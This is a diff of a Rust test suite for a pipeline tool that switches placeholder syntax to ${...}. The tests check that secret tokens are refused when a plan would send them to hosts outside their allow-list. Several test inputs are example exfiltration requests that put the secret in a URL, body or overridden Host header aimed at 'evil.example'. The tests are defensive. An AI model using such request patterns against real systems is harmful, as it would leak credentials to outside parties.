@@ -58,16 +58,16 @@ fn plan_that_may_not_use_its_secrets_is_rejected() {
         let (env, folder) = (TestEnv::embedded().await, TempDir::new().unwrap());
         let (live, replace) = Live::new(token(&folder, VALUE, &["*.api.example", "db.example"]));
         let (_context, pipelines) = open(&env, &folder, live).await;
-        let header = "headers = { Authorization = 'Token {secret.t}' }";
+        let header = "headers = { Authorization = 'Token ${secret.t}' }";
         let sink =
             "extract = { id = '$.id' }\nsink = 'out'\n[sink.out]\ntable = 'a'\nkey = ['id']\npostgres = 't'";
         let put = async |step: &str| pipelines.put_plan(&plan("['1']", step)).await.map(drop);
         for step in [
-            format!("get = 'https://eu.api.example/{{key}}'\n{header}"),
-            format!("get = 'https://{{key}}.api.example/'\n{header}"),
-            "get = 'https://eu.api.example/{secret.t}'".to_owned(),
-            "post = 'https://eu.api.example/'\nbody = '{secret.t}'".to_owned(),
-            "get = 'https://eu.api.example/'\nheaders = { Host = 'us.api.example', A = '{secret.t}' }"
+            format!("get = 'https://eu.api.example/${{key}}'\n{header}"),
+            format!("get = 'https://${{key}}.api.example/'\n{header}"),
+            "get = 'https://eu.api.example/${secret.t}'".to_owned(),
+            "post = 'https://eu.api.example/'\nbody = '${secret.t}'".to_owned(),
+            "get = 'https://eu.api.example/'\nheaders = { Host = 'us.api.example', A = '${secret.t}' }"
                 .to_owned(),
         ] {
             put(&step).await.unwrap_or_else(|error| panic!("{step}: {error}"));
@@ -83,20 +83,20 @@ fn plan_that_may_not_use_its_secrets_is_rejected() {
                 "headers.Authorization",
                 "evil.example",
             ),
-            ("get = 'https://evil.example/{secret.t}'".to_owned(), "get", "sent to evil.example:443"),
+            ("get = 'https://evil.example/${secret.t}'".to_owned(), "get", "sent to evil.example:443"),
             (
-                "post = 'https://evil.example/'\nbody = '{secret.t}'".to_owned(),
+                "post = 'https://evil.example/'\nbody = '${secret.t}'".to_owned(),
                 "body",
                 "sent to evil.example:443",
             ),
-            ("get = 'https://{secret.t}.api.example/'".to_owned(), "get", "part of a URL's host"),
+            ("get = 'https://${secret.t}.api.example/'".to_owned(), "get", "part of a URL's host"),
             (
-                "get = 'https://a.api.example/'\nheaders = { hOst = 'evil.example', A = '{secret.t}' }"
+                "get = 'https://a.api.example/'\nheaders = { hOst = 'evil.example', A = '${secret.t}' }"
                     .to_owned(),
                 "headers.A",
                 "sent to evil.example:443",
             ),
-            ("get = 'https://a.api.example/{secret.other}'".to_owned(), "get", "there is no secret other"),
+            ("get = 'https://a.api.example/${secret.other}'".to_owned(), "get", "there is no secret other"),
         ] {
             match put(&step).await {
                 Err(Error::Secret { field: found, refused }) => {
@@ -155,8 +155,9 @@ fn secret_is_sent_only_to_its_hosts_and_masked_in_errors() {
         let (live, replace) = Live::new(token(&folder, VALUE, &["localhost"]));
         let (_context, pipelines) = open(&env, &folder, live).await;
         let (port, requests) = echo().await;
-        let step =
-            format!("get = 'http://{{key}}:{port}/{{secret.t}}'\nheaders = {{ A = 'Token {{secret.t}}' }}");
+        let step = format!(
+            "get = 'http://${{key}}:{port}/${{secret.t}}'\nheaders = {{ A = 'Token ${{secret.t}}' }}"
+        );
         // The host comes from the item, so the check happens per request.
         let text = plan("['localhost', '127.0.0.1']", &step);
         let errors = async || {
